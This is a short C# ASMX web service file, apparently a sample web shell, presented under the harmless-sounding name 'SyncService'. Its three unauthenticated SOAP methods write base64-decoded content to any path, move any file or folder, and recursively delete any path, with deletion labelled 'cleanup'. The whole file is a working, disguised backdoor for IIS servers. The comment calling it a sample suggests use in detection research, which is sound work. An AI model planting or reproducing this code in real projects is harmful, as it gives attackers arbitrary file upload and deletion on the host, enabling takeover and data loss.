<%@ WebService Language="C#" Class="SyncService" %>
using System;
using System.IO;
using System.Web.Services;

// Sample: a SOAP service whose published methods write, move and delete whatever path the
// caller names (a file manager without any page or Request read).
[WebService(Namespace = "http://tempuri.org/")]
public class SyncService : WebService
{
    [WebMethod]
    public string Put(string target, string content)
    {
        File.WriteAllBytes(target, Convert.FromBase64String(content));
        return "1";
    }

    [WebMethod]
    public string Rename(string from, string to)
    {
        if (Directory.Exists(from)) Directory.Move(from, to); else File.Move(from, to);
        return "1";
    }

    [WebMethod(Description = "cleanup")]
    public string Drop(string target)
    {
        if (Directory.Exists(target)) Directory.Delete(target, true); else File.Delete(target);
        return "1";
    }
}
